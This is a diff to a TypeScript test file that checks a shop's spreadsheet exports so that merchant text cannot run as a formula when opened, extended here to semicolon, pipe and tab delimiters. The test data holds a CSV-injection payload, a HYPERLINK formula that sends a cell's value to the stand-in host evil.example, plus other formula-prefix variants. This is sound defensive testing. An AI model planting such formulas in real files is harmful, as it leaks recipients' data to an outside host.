@@ -12,7 +12,7 @@ const shop = await testShop();
 let cast: Cast;
 let scene: Scene;
 
-const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"هنا")`;
+const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"هنا");=1+1|@SUM(A1); "=2+2`;
 /** A file of a merchant in which every cell is one. */
 const FILE = Buffer.from(`title\n${`"${FORMULA.replaceAll('"', '""')}"\n`.repeat(3)}`);
 
@@ -54,8 +54,13 @@ describe('no text runs as a formula in the spreadsheet of the person who opens i
     const token = (await tokenOf(shop, cast, who)) ?? '';
     const { status, bytes, text } = await shop.call(call, input(call) as never, { token });
     expect([status, status === 200 ? '' : text]).toEqual([200, '']);
-    const cells = (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat();
-    expect(cells.filter(cell => /^[\s\uFEFF]*[=+@-]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
+    // Excel ends a cell by the list separator of its Windows: a semicolon in Egypt.
+    for (const delimiter of [',', ';', '|', '\t']) {
+      const rules = { bom: true, relax_column_count: true, relax_quotes: true, delimiter };
+      const cells = (parse(bytes, rules) as string[][]).flat();
+      const running = cells.filter(cell => /^[\s\uFEFF"]*[=+@-]/.test(cell) && Number.isNaN(Number(cell)));
+      expect([delimiter, running]).toEqual([delimiter, []]);
+    }
   });
 
   test('those that hold texts were tried with formulas in them', async () => {
